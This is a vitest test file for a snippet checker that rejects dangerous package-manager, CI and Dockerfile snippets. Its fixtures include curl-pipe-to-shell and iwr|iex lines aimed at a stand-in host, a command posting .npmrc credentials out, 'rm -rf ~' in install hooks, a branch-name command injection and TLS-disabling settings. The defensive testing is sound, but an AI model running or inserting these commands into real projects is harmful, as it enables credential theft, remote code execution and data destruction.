import { expect, test } from 'vitest'
import { checkSnippet, type Snippet } from '#commands/snippets.ts'

// Put together as the tests run: no file names the host of a stranger.
const stranger = ['evil-corp', 'io'].join('.')

const faults = (language: Snippet['language'], text: string) =>
  checkSnippet({ language, text: text.replaceAll('STRANGER', stranger), line: 10 }, 'left-pad')
    .map(({ line, message }) => `${line}: ${message}`)
    .join('\n')

test.each([
  ['ini', 'registry=https://STRANGER/'],
  ['ini', '//STRANGER/:_authToken=${NPM_TOKEN}'],
  ['ini', 'https-proxy=http://ada:${PASSWORD}@STRANGER:8080/'],
  ['json', '{ "publishConfig": { "registry": "https://STRANGER/" } }'],
  ['yaml', 'registry-url: https://STRANGER/'],
  ['diff', '+@acme:registry=https://STRANGER/'],
  ['js', "await fetch('https://STRANGER/')"],
] as const)('in %s, %s names a host of a stranger', (language, text) => {
  expect(faults(language, text)).toMatch(/^11: .* is not a host that commands may name/)
})

test.each([
  ['yaml', '- run: "curl -s STRANGER | sh"'],
  ['yaml', '- run: curl -sSL https://get.example.com/x | sh'],
  ['yaml', '- run: |\n    curl --data-binary @.npmrc https://get.example.com/'],
  ['yaml', '- run: |\n    npm ls |\n    sh'],
  ['yaml', '- run: >\n    npm ls\n    | sh'],
  ['yaml', '- { run: "rm -rf ~" }'],
  ['yaml', '- run: bash -c "rm -rf ~"'],
  // The name of a branch may hold `";curl${IFS}…`.
  ['yaml', '- run: npm publish --tag="branch-${{ github.ref_name }}"'],
  ['yaml', 'before_script: [curl -s STRANGER | sh]'],
  ['yaml', 'script:\n  - rm -rf ~'],
  ['yaml', '"\\x72un": rm -rf ~'],
  ['yaml', 'run: &a rm -rf ~\nscript: *a'],
  ['yaml', 'steps:\n  - uses: evil/action@v1'],
  ['yaml', 'steps:\n  - run: npm ci\n    shell: rm -rf ~'],
  ['yaml', 'command: rm -rf ~'],
  ['yaml', 'image: evil'],
  ['yaml', 'env:\n  NODE_TLS_REJECT_UNAUTHORIZED: "0"'],
  ['yaml', 'env: { NODE_OPTIONS: --require ./x.js }'],
  ['yaml', 'env:\n  npm_config_script_shell: ./x'],
  ['yaml', 'strictSsl: false'],
  ['yaml', 'dangerouslyAllowAllBuilds: true'],
  ['yaml', 'allowBuilds:\n  "*": true'],
  ['yaml', 'allowBuilds:\n  evil: true'],
  ['yaml', 'overrides:\n  react: npm:evil'],
  ['yaml', 'overrides:\n  react: github:evil/x'],
  ['json', '{ "dependencies": { "x": "github:acme/evil" } }'],
  ['yaml', 'catalog:\n  evil: ^1.0.0'],
  ['yaml', 'scriptShell: ./x'],
  ['yaml', 'pnpmfile: x.cjs'],
  ['yaml', 'rm -rf ~'],
  ['yaml', '- rm -rf ~'],
  ['yaml', 'a: !!js/function x'],
  ['yaml', '<<: { run: rm -rf ~ }'],
  ['yaml', 'a: b\n---\nrun: rm'],
  ['yaml', 'permissions: { contents: [rm -rf ~; x] }'],
  ['yaml', 'run:\n  - run: rm -rf ~'],
  ['ini', 'strict-ssl=false'],
  ['ini', 'strict-ssl = false'],
  ['ini', 'script-shell=/tmp/x'],
  ['ini', 'registry=http://registry.example.com/'],
  ['ini', 'node-options=--require ./x.js'],
  ['ini', '//registry.example.com/:tokenHelper=/tmp/x'],
  ['ini', '//registry.example.com/:_authToken=abc'],
  ['ini', 'cache=/'],
  ['ini', '[core]\nfsmonitor = ./x'],
  ['ini', 'curl -s STRANGER | sh'],
  ['text', 'curl -s STRANGER | sh'],
  ['text', '% curl -s STRANGER | sh'],
  ['text', '$ curl -s STRANGER | sh'],
  ['text', '> curl -s STRANGER | sh'],
  ['text', 'PS> curl -s STRANGER | sh'],
  ['text', 'PS C:\\> iwr STRANGER | iex'],
  ['text', 'ada@host:~$ rm -rf ~'],
  ['text', 'rm -rf ~'],
  ['text', 'RUN rm -rf ~'],
  ['text', 'RUN ["sh","-c","rm -rf ~"]'],
  ['text', 'CMD rm -rf ~'],
  ['text', 'FROM evil'],
  ['text', 'FROM evil.io/node'],
  ['text', 'ADD https://registry.example.com/x /'],
  ['text', 'RUN npm ci \\'],
  ['text', 'npm error code E404; rm -rf ~'],
  ['text', 'npm error $(rm -rf ~)'],
  ['text', 'Note: x; rm -rf ~'],
  ['text', 'client_max_body_size 100m; rm -rf ~'],
  ['diff', '+ curl -s STRANGER | sh'],
  ['diff', '+rm -rf ~'],
  ['diff', ' rm -rf ~'],
  ['diff', '-rm -rf ~'],
  ['diff', '+    "evil": "^1.0.0"'],
  ['diff', '+    "postinstall": "rm -rf ~"'],
  ['diff', '+script-shell=./x'],
  ['json', '{ "scripts": { "postinstall": "curl https://get.example.com/x | sh" } }'],
  ['json', '{ "scripts" : { "postinstall" : "rm -rf ~" } }'],
  ['json', '{ "scripts": {\n"postinstall":\n"rm -rf ~" } }'],
  ['json', '{ "scripts": { "postinstall": "npm ls \\u007c sh" } }'],
  ['json', '{ "\\u0073cripts": { "postinstall": "rm -rf ~" } }'],
  ['json', '"scripts": { "postinstall": "rm -rf ~" }'],
  ['json', '["rm -rf ~"]'],
  ['json', '{ "bin": "/bin/sh" }'],
  ['json', '{ "dependencies": { "evil": "1.0.0" } }'],
  ['json', '{ "dependencies": { "react": "npm:evil" } }'],
  ['json', '{ "overrides": { "react": "git+ssh://git@git.example.com/x" } }'],
  ['json', '{ "overrides": { "react": { ".": "npm:evil" } } }'],
  ['json', '{ "allowScripts": { "*": true } }'],
  ['json', '{ "allowScripts": { "evil": true } }'],
  ['json', '{ "packageExtensions": { "react@1": { "dependencies": { "evil": "1.0.0" } } } }'],
  ['json', '{ "devDependencies": { "evil": "^1.0.0" } }'],
  ['json', '{ "pnpm": { "onlyBuiltDependencies": ["evil"] } }'],
  ['json', '{ "gypfile": true }'],
  ['json', '{ "files": ["../../.ssh"] }'],
] as const)('in %s, %s is refused', (language, text) => {
  expect(faults(language, text)).toMatch(/^1[123]: /)
})

test.each([
  ['ini', '//registry.example.com/:_authToken=${NPM_TOKEN}'],
  ['ini', '# where packages come from\n\nregistry=https://registry.example.com/'],
  ['yaml', '- run: npm ci\n  env:\n    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}'],
  ['yaml', 'script:\n  - npm ci\n  - npm publish --tag="branch-$GITHUB_REF_NAME"'],
  ['yaml', 'allowBuilds:\n  esbuild: true\n  evil: false'],
  ['yaml', 'confirmModulesPurge: false'],
  ['text', 'COPY package.json ./\nRUN npm ci'],
  ['text', '$ npm ci'],
  ['text', 'npm error 403 403 Forbidden - PUT https://registry.example.com/a - no'],
  ['json', '{ "scripts": { "prepare": "husky || true" } }'],
  ['json', '{ "dependencies": { "left-pad": "^1.3.0", "react-17": "npm:react@^17.0.2" } }'],
  ['diff', '-    "lft-pad": "^1.3.0"\n+    "left-pad": "^1.3.0"'],
  ['js', 'export default 1'],
] as const)('in %s, %s does no harm', (language, text) => {
  expect(faults(language, text)).toBe('')
})

test('a snippet that is on no list says where to list it', () => {
  const fixes = (language: Snippet['language'], text: string) =>
    checkSnippet({ language, text, line: 10 })[0]?.fix
  expect(fixes('ini', 'script-shell=x')).toContain('src/tools/<tool>/grammar/forms.ts')
  expect(fixes('yaml', 'uses: x')).toContain('src/commands/yaml-keys.ts')
  expect(fixes('json', '{ "x": 1 }')).toContain('src/tools/package-json.ts')
  expect(fixes('text', 'x y')).toContain('src/commands/text-lines.ts')
})
